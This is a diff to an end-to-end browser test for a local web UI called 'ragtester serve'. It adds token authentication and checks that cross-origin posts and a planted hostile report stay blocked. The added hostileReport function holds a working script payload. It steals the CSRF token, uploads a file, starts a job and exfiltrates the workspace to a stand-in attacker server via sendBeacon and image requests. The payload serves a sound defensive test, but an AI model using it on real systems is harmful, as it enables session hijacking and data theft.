@@ -1,6 +1,8 @@
 // End-to-end test of `ragtester serve` in headless Debian Chromium (playwright-core; no browser download):
 // the four stages through the page, charts, the detail view, comparison and audit labelling; a model answer
-// carrying <script> shows as text and runs nothing; a 50,000-result run pages in under a second per page.
+// carrying <script> shows as text and runs nothing; a 50,000-result run pages in under a second per page;
+// a run directory from elsewhere whose report.html carries script can neither drive the UI nor send
+// anything out.
 //
 //   RAGTESTER_BIN=target/debug/ragtester node web-tests/e2e.mjs [--screenshots DIR]
 import { chromium } from 'playwright-core';
@@ -58,12 +60,16 @@ async function startServer(workspace, runs) {
   const url = await new Promise((resolve, reject) => {
     child.on('exit', (code) => reject(new Error(`serve exited with ${code}`)));
     lines.on('line', (line) => {
-      const m = line.match(/^ragtester UI on (http:\/\/\S+)\/$/);
-      if (m) resolve(m[1]);
+      const m = line.match(/^ragtester UI on (http:\/\/\S+)\/\?token=([0-9a-f]{64})$/);
+      if (m) resolve({ base: m[1], token: m[2] });
     });
   });
-  return { child, url };
+  return { child, url: url.base, token: url.token, printed: `${url.base}/?token=${url.token}` };
 }
+
+// Node's own requests to the UI, as a script makes them: with the access token.
+let TOKEN = null;
+const authed = (url, options = {}) => fetch(url, { ...options, headers: { ...(options.headers || {}), authorization: `Bearer ${TOKEN}` } });
 
 // Start a job with `action` and wait until it (and any other) has finished: the job list grows by one and
 // no entry is running. A failed job fails the test with its message.
@@ -83,17 +89,17 @@ const step = (name) => console.log(`· ${name}`);
 // A page of another origin (another port on localhost, as a dev server or a rebinding page would be) tries
 // what a browser lets any page try without asking: a multipart upload and a text/plain post (simple requests:
 // no preflight), and reading the CSRF token. The UI must refuse the writes and the browser the read.
-async function crossSiteAttempts(browser, ui, workspace) {
+async function crossSiteAttempts(context, ui, workspace) {
   const docs = () => fs.readdirSync(path.join(workspace, 'docs')).sort();
   const before = docs();
-  const jobsBefore = await (await fetch(`${ui}/api/jobs`)).json();
+  const jobsBefore = await (await authed(`${ui}/api/jobs`)).json();
   const attacker = http.createServer((_, res) => {
     res.writeHead(200, { 'content-type': 'text/html' });
     res.end('<!doctype html><title>elsewhere</title><p>nothing to see</p>');
   });
   await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
   const origin = `http://localhost:${attacker.address().port}`;
-  const page = await browser.newPage();
+  const page = await context.newPage();
   try {
     await page.goto(origin);
     const outcome = await page.evaluate(async (target) => {
@@ -116,7 +122,53 @@ async function crossSiteAttempts(browser, ui, workspace) {
     attacker.close();
   }
   assert.deepEqual(docs(), before, 'a cross-origin upload wrote a file');
-  assert.deepEqual(await (await fetch(`${ui}/api/jobs`)).json(), jobsBefore, 'a cross-origin post started a job');
+  assert.deepEqual(await (await authed(`${ui}/api/jobs`)).json(), jobsBefore, 'a cross-origin post started a job');
+}
+
+// A report.html that someone else's run directory carries, written to take over the UI that serves it:
+// it reads the session, uploads a file, starts a job, reads the workspace and sends it to another server.
+function hostileReport(attackerPort) {
+  const out = `http://127.0.0.1:${attackerPort}`;
+  return `<!doctype html><html><head><title>report</title>
+<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"></head><body><h1 id="hostile">A report</h1>
+<img src="${out}/img"><link rel="stylesheet" href="${out}/css"><iframe src="${out}/frame"></iframe>
+<form id="f" action="${out}/form" method="post"><input name="x" value="y"></form>
+<script>
+document.title = 'pwned';
+(async () => {
+  const session = await (await fetch('/api/session')).json();
+  const form = new FormData();
+  form.append('file', new Blob(['planted by a report']), 'planted.md');
+  await fetch('/api/documents', { method: 'POST', headers: { 'x-ragtester-csrf': session.csrf }, body: form });
+  await fetch('/api/jobs/docgen', { method: 'POST', headers: { 'x-ragtester-csrf': session.csrf, 'content-type': 'application/json' }, body: '{"count": 1}' });
+  const ws = await (await fetch('/api/workspace')).text();
+  navigator.sendBeacon('${out}/beacon', ws);
+  new Image().src = '${out}/exfil?' + encodeURIComponent(ws);
+})();
+document.getElementById('f').submit();
+</script></body></html>`;
+}
+
+// Opened in the browser that holds the UI's session cookie, the hostile report runs nothing and reaches
+// nothing: no request to the other server, no file, no job, its title unchanged.
+async function hostileReportIsInert(context, ui, workspace, hits) {
+  const docs = () => fs.readdirSync(path.join(workspace, 'docs')).sort();
+  const before = docs();
+  const jobsBefore = await (await authed(`${ui}/api/jobs`)).json();
+  const page = await context.newPage();
+  try {
+    const response = await page.goto(`${ui}/api/runs/hostile/report`);
+    assert.equal(response.status(), 200);
+    assert.match(response.headers()['content-security-policy'], /^sandbox;.*script-src 'none'/);
+    await page.waitForSelector('#hostile');
+    await page.waitForTimeout(1500);
+    assert.equal(await page.title(), 'report', 'the report\'s script ran');
+  } finally {
+    await page.close();
+  }
+  assert.deepEqual(hits, [], 'the report reached another server');
+  assert.deepEqual(docs(), before, 'the report uploaded a file');
+  assert.deepEqual(await (await authed(`${ui}/api/jobs`)).json(), jobsBefore, 'the report started a job');
 }
 
 async function main() {
@@ -138,19 +190,31 @@ async function main() {
   ragtester('judge', imported);
   ragtester('report', imported);
 
-  const { child, url } = await startServer(path.join(tmp, 'ws'), [demo, big, imported]);
+  // Someone else's run: the demo's records with a report.html written to attack whoever serves it.
+  const hits = [];
+  const attacker = http.createServer((req, res) => { hits.push(req.url); res.end(''); });
+  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+  const hostile = path.join(tmp, 'hostile');
+  fs.cpSync(demo, hostile, { recursive: true });
+  fs.writeFileSync(path.join(hostile, 'report.html'), hostileReport(attacker.address().port));
+
+  const { child, url, token, printed } = await startServer(path.join(tmp, 'ws'), [demo, big, imported, hostile]);
+  TOKEN = token;
   const browser = await chromium.launch({
     executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
     args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking',
       '--disable-component-update', '--no-first-run'],
   });
   try {
-    const page = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
+    // One browser session: the page opened with the printed address holds the session cookie.
+    const context = await browser.newContext({ viewport: { width: 1440, height: 1000 } });
+    const page = await context.newPage();
     const dialogs = [];
     page.on('dialog', async (d) => { dialogs.push(d.message()); await d.dismiss(); });
     const pageErrors = [];
     page.on('pageerror', (e) => pageErrors.push(e.message));
-    await page.goto(url);
+    await page.goto(printed);
+    assert.equal(page.url(), `${url}/`, 'the token left the address bar');
 
     step('serve --run opens on that run\'s results');
     await page.waitForSelector('section#results:not([hidden]) #cards .card');
@@ -306,7 +370,7 @@ async function main() {
     assert.match(await page.textContent('#pairwise-table tbody tr:first-child'), /^all\d+\d+\d+\d+\.\d%/);
 
     step('the HTML report: Diagnosis section with causes, evidence and advice');
-    const report = await browser.newPage({ viewport: { width: 1440, height: 1000 } });
+    const report = await context.newPage();
     const reportErrors = [];
     report.on('pageerror', (e) => reportErrors.push(e.message));
     await report.goto(`${url}/api/runs/demo/report`);
@@ -335,9 +399,13 @@ async function main() {
     await report.close();
 
     step('another site cannot drive it: cross-origin posts refused, the session token unreadable');
-    await crossSiteAttempts(browser, url, path.join(tmp, 'ws'));
+    await crossSiteAttempts(context, url, path.join(tmp, 'ws'));
+
+    step('a served run directory is data: its hostile report.html runs nothing and reaches nothing');
+    await hostileReportIsInert(context, url, path.join(tmp, 'ws'), hits);
     console.log('web UI end-to-end: ok');
   } finally {
+    attacker.close();
     await browser.close();
     child.kill();
     fs.rmSync(tmp, { recursive: true, force: true });
